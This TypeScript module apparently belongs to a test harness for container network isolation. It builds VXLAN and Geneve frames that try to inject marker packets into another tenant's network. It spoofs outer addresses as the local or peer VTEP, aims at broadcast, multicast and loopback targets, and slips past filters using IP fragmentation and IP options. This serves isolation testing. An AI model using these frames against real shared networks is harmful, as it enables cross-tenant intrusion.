/**
 * VXLAN, or Geneve, inside of a container's own packets. A node that takes such a packet for one of its peers' unpacks it into
 * whichever tenant its header names: plain bridges with VXLAN do, and so does Open vSwitch. Pure.
 */
import { broadcastMac, ethernet, etherTypes, fragmentedUdpPacket, genevePayload, udpPacket, vxlanPayload, type Endpoints, type Tag } from './frames.ts';
import type { Attack, Scene, Station } from './scene.ts';

/** What nodes unpack: RFC 7348 §5, RFC 8926 §3.3. */
const tunnels = {
  vxlan: { title: 'VXLAN', port: 4789, payload: vxlanPayload },
  geneve: { title: 'Geneve', port: 6081, payload: genevePayload },
} as const;
/** The MAC of the frames inside: belongs to nobody, so that no learning spoils the next attack. */
const innerMac = '06:5d:01:9a:7c:44';

/** All of them for one scene. */
export function tunnelAttacks(scene: Scene): readonly Attack[] {
  const { attacker, node } = scene;
  const { title, port } = tunnels[scene.encapsulation];
  const outerMacs = [
    { name: "the host interface's MAC", mac: node.hostIfMac },
    { name: "the bridge's MAC", mac: node.bridgeMac },
    { name: "the VXLAN device's MAC", mac: node.vxlanMac },
    { name: "the underlay interface's MAC", mac: node.uplinkMac },
    { name: 'the broadcast MAC', mac: broadcastMac },
    { name: 'the multicast MAC 01:00:5e:00:00:01', mac: '01:00:5e:00:00:01' },
    { name: 'the link-local MAC 01:80:c2:00:00:0e', mac: '01:80:c2:00:00:0e' },
  ];
  const attack = (name: string, macs: readonly string[], tags: readonly Tag[] = []): Attack => ({
    name,
    mayReachOwn: true,
    frames: (marker) =>
      macs.flatMap((dst) =>
        outerPairs(scene).flatMap((pair) => innerFrames(scene, marker).map((inner) => outerFrame({ src: attacker.mac, dst, tags, port }, pair, inner))),
      ),
  });
  const untagged = outerMacs.map(({ name, mac }) => attack(`${title} to ${name}`, [mac]));
  const priorityTagged = attack(`${title} behind a priority tag`, [node.hostIfMac, node.bridgeMac], [{ type: 'vlan', id: 0 }]);
  return [...untagged, priorityTagged, ...(node.ownVtep.includes(':') ? [] : hiddenFromFilters(scene))];
}

/** Ways past a filter that reads only the first header of the first fragment. */
function hiddenFromFilters(scene: Scene): readonly Attack[] {
  const { attacker, node } = scene;
  const { title, port } = tunnels[scene.encapsulation];
  const targets = [node.hostIfMac, node.bridgeMac].flatMap((mac) => [node.ownVtep, node.otherVtep].map((dst) => ({ mac, src: attacker.ipv4, dst })));
  const attack = (name: string, build: (outer: Endpoints, inner: Buffer) => readonly Buffer[]): Attack => ({
    name,
    mayReachOwn: true,
    frames: (marker) =>
      targets.flatMap(({ mac, ...outer }) =>
        innerFrames(scene, marker)
          .flatMap((inner) => build(outer, inner))
          .map((packet) => ethernet({ dst: mac, src: attacker.mac, type: etherTypes.ipv4 }, packet)),
      ),
  });
  return [
    attack(`${title} in fragments`, (outer, inner) => fragmentedUdpPacket(outer, port, inner)),
    attack(`${title} behind IP options`, (outer, inner) => [udpPacket(outer, inner, { port, withIpOptions: true })]),
  ];
}

export interface UnderlaySource {
  readonly srcMac: string;
  readonly dstMac: string;
  readonly srcIp: string;
  readonly dstIp: string;
  readonly vni: number;
  readonly encapsulation: Scene['encapsulation'];
}

/** VXLAN or Geneve from a host of the underlay itself, with frames inside for each station and for everybody. */
export function underlayTunnel({ srcMac, dstMac, srcIp, dstIp, vni, encapsulation }: UnderlaySource, stations: readonly Station[]): Attack['frames'] {
  const type = srcIp.includes(':') ? etherTypes.ipv6 : etherTypes.ipv4;
  const { port, payload } = tunnels[encapsulation];
  return (marker) =>
    innerTo(stations, marker).map((inner) =>
      ethernet({ dst: dstMac, src: srcMac, type }, udpPacket({ src: srcIp, dst: dstIp }, payload(vni, inner), { port })),
    );
}

/** Outer addresses: as the container itself, as the other node, as the own node; to everything that might unpack. */
function outerPairs({ attacker, node }: Scene): readonly Endpoints[] {
  const isOver6 = node.ownVtep.includes(':');
  const sources = [isOver6 ? attacker.ipv6 : attacker.ipv4, node.otherVtep, node.ownVtep];
  const gateway = isOver6 ? node.ownGateway.ipv6 : node.ownGateway.ipv4;
  const targets = [node.ownVtep, node.otherVtep, gateway, isOver6 ? 'ff02::1' : '255.255.255.255', isOver6 ? '::1' : '127.0.0.1'];
  return sources.flatMap((src) => targets.map((dst) => ({ src, dst })));
}

/** Payloads for the other tenant: to each victim and to everybody. */
function innerFrames({ victims, foreignVni, encapsulation }: Scene, marker: string): readonly Buffer[] {
  return innerTo(victims, marker).map((inner) => tunnels[encapsulation].payload(foreignVni, inner));
}

function innerTo(stations: readonly Station[], marker: string): readonly Buffer[] {
  return [...stations.map(({ mac, ipv4 }) => ({ dst: mac, ip: ipv4 })), { dst: broadcastMac, ip: '255.255.255.255' }].map(({ dst, ip }) =>
    ethernet({ dst, src: innerMac, type: etherTypes.ipv4 }, udpPacket({ src: '10.1.1.250', dst: ip }, Buffer.from(marker))),
  );
}

interface OuterFields {
  readonly src: string;
  readonly dst: string;
  readonly port: number;
  readonly tags?: readonly Tag[];
}

function outerFrame({ src, dst, port, tags = [] }: OuterFields, pair: Endpoints, payload: Buffer): Buffer {
  const type = pair.src.includes(':') ? etherTypes.ipv6 : etherTypes.ipv4;
  return ethernet({ dst, src, type, tags }, udpPacket(pair, payload, { port }));
}
